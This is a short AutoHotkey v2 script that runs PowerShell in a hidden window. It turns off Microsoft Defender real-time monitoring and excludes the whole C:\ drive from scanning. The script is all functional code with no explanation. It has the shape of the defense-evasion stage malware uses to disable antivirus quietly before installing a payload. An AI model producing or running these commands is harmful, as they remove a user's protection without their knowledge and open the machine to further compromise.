#Requires AutoHotkey v2.0
RunPS(c) {
    RunWait("powershell.exe -NoProfile -Command " c, , "Hide")
}
RunPS("Set-MpPreference -DisableRealtimeMonitoring $true")
RunPS("Add-MpPreference -ExclusionPath C:\")
